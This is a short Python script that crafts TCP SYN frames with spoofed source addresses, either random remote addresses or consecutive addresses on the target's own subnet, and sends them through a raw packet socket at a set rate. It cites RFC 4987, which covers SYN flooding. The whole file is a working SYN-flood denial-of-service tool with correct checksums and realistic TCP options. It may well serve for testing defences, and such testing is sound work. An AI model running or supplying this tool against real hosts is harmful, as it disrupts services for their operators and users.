#!/usr/bin/env python3
"""SYNs of hosts that do not exist, straight onto an interface (RFC 4987 section 2).

    flood.py <interface> <ethernet address> <address> <port> <count> <a second> far|near

far: from anywhere in the world, near: from the neighbours' own network, one address after the
other, so that each answer has to ask for a link address first.
"""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def syn(rnd, ethernet, source, target, port):
    """The frame of a SYN, as Linux would send it."""
    options = b"\2\4\5\xb4\4\2\10\12" + rnd.randbytes(4) + b"\0\0\0\0\1\3\3\7"
    ports = struct.pack("!HH", rnd.randrange(1024, 65536), port)
    rest = struct.pack("!IIBBHHH", rnd.getrandbits(32), 0, 0xA0, 2, 64240, 0, 0) + options
    acc = checksum(source + target + struct.pack("!HH", 6, 40) + ports + rest)
    rest = rest[:12] + struct.pack("!H", acc) + rest[14:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 60, rnd.getrandbits(16), 0x4000, 64, 6, 0)
    acc = checksum(ip + source + target)
    return ethernet + ip[:10] + struct.pack("!H", acc) + source + target + ports + rest


def main():
    interface, mac, target, port, count, rate, kind = sys.argv[1:]
    rnd = random.Random(4987)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + b"\x08\0"
    target = socket.inet_aton(target)
    frames = []
    for i in range(int(count)):
        if kind == "near":
            source = target[:3] + bytes((10 + i % 240,))
        else:
            source = bytes((rnd.randrange(11, 100),)) + rnd.randbytes(2) + b"\1"
        frames.append(syn(rnd, ethernet, source, target, int(port)))
    print("ready", flush=True)
    start = time.monotonic()
    lost = 0
    for i, frame in enumerate(frames):
        ahead = i / int(rate) - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
        try:
            out.send(frame)
        except OSError:  # the interface's queue is full
            lost += 1
    print("sent %d in %.1f s, %d lost" % (len(frames), time.monotonic() - start, lost), flush=True)


if __name__ == "__main__":
    main()
